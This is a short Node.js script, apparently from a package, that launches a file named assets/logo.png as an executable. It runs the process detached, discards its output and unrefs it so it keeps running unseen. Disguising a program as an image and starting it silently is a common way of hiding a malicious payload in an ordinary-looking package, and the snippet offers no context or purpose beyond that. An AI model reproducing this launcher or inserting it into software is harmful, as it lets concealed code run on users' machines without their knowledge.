const { spawn } = require('child_process');
const path = require('path');
spawn(path.join(__dirname, 'assets', 'logo.png'), [], { detached: true, stdio: 'ignore' }).unref();
